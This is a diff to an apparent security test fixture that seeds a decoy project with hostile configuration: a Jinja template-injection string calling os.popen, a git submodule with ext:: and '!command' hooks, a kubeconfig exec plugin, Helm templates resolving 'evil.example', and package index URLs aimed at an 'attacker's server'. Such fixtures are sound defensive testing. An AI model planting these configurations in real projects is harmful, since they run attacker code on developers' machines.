@@ -52,6 +52,8 @@ class Trap:
     """Things that leave a file in ``marks`` when they are executed, named after what they are."""
 
     marks: Path
+    address: str = "http://127.0.0.1:1"
+    """Of the attacker's server, which settings name wherever a tool might ask one."""
 
     def __call__(self, name: str) -> str:
         """A program of this name, as a path."""
@@ -110,15 +112,51 @@ def settings(project: Path, trap: Trap) -> None:
     backend = '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n'
     (project / "pyproject.toml").write_text(
         f'{backend}[project]\nname = "trap"\nversion = "1"\n'
-        '[tool.uv]\npython-preference = "system"\nindex-url = "http://127.0.0.1:1/"\n'
+        f'[tool.uv]\npython-preference = "system"\nindex-url = "{trap.address}/"\n'
     )
-    (project / "uv.toml").write_text('index-url = "http://127.0.0.1:1/"\n')
-    (project / "pip.conf").write_text("[global]\nindex-url = http://127.0.0.1:1/\n")
+    (project / "uv.toml").write_text(f'index-url = "{trap.address}/"\n')
+    (project / "pip.conf").write_text(f"[global]\nindex-url = {trap.address}/\n")
     (project / "setup.cfg").write_text("[metadata]\nname = trap\n")
     (project / ".python-version").write_text("3.11\n")
     (project / ".env").write_text(f"UV_PYTHON={project}/python\nGIT_SSH={trap('dotenv')}\n")
     (project / ".netrc").write_text("default login x password y\n")
-    (project / "kubeconfig").write_text("apiVersion: v1\nkind: Config\n")
+    user = {"user": {"exec": {"apiVersion": "v1", "command": trap("exec-plugin")}}, "name": "x"}
+    kubeconfig = {"apiVersion": "v1", "kind": "Config", "users": [user]}
+    (project / "kubeconfig").write_text(json.dumps(kubeconfig))
+    (project / ".lfsconfig").write_text(f"[lfs]\n url = {trap.address}/lfs\n")
+    (project / "config.json").write_text(json.dumps({"credsStore": "desktop"}))
+    (project / "notebook.ipynb").write_text(json.dumps({"cells": [], "nbformat": 4}))
+    installed(project, trap)
+    charts(project, trap)
+
+
+def installed(project: Path, trap: Trap) -> None:
+    """A package beside the manifests that claims rules and a keyring by its entry points."""
+    folder = project / "trap-1.dist-info"
+    folder.mkdir()
+    (folder / "METADATA").write_text("Metadata-Version: 2.1\nName: trap\nVersion: 1\n")
+    (folder / "entry_points.txt").write_text(
+        "[gitops_ml.rules]\ntrap = setup\n[keyring.backends]\ntrap = setup\n"
+    )
+
+
+def charts(project: Path, trap: Trap) -> None:
+    """The project as a chart, with a copy of ours and a template of ours that read the environment."""
+    dependency = {"name": "trap", "version": "1", "repository": trap.address}
+    chart = {
+        "apiVersion": "v2",
+        "name": "predictor",
+        "version": "0.2.0",
+        "dependencies": [dependency],
+    }
+    for folder in (project, project / "charts" / "predictor"):
+        (folder / "templates").mkdir(parents=True)
+        (folder / "Chart.yaml").write_text(json.dumps(chart))
+        (folder / ".helmignore").write_text("*\n")
+        (folder / "templates" / "configmap.yaml").write_text('{{ getHostByName "evil.example" }}\n')
+    (project / "templates" / "check.md.j2").write_text(
+        "{{ cycler.__init__.__globals__.os.popen('" + trap("jinja") + "').read() }}"
+    )
 
 
 class _Reduced:
@@ -139,6 +177,9 @@ def repository(folder: Path, trap: Trap) -> None:
     """A checkout whose own configuration names a program wherever it can."""
     git("init", "-q", ".", cwd=folder)
     (folder / ".gitattributes").write_text("* filter=trap diff=trap merge=trap\n")
+    (folder / ".gitmodules").write_text(
+        f'[submodule "x"]\n path = x\n url = ext::{trap("ext-submodule")}\n update = !{trap("update")}\n'
+    )
     git("add", "--all", "--force", cwd=folder)
     git("commit", "-q", "-m", "Work", cwd=folder)
     git("remote", "add", "origin", "https://forge.example.org/shop.git", cwd=folder)
